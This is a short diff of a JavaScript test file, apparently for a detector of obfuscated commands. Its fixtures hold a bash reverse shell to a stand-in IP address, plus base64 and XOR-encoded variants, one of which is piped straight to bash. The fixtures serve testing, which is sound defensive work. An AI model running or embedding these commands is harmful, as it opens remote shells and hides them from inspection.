@@ -67,7 +67,7 @@ describe('scripts', () => {
 
 describe('layers', () => {
   const shell = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n'
-  const xored = Buffer.from(shell).map((byte) => byte ^ 0x5a)
+  const xored = Buffer.from(Buffer.from(shell).map((byte) => byte ^ 0x5a))
   it.each([
     ['Base64', `echo ${b64(shell)} | base64 -d | bash`],
     ['Base64 twice', `x=${b64(b64(shell))}`],
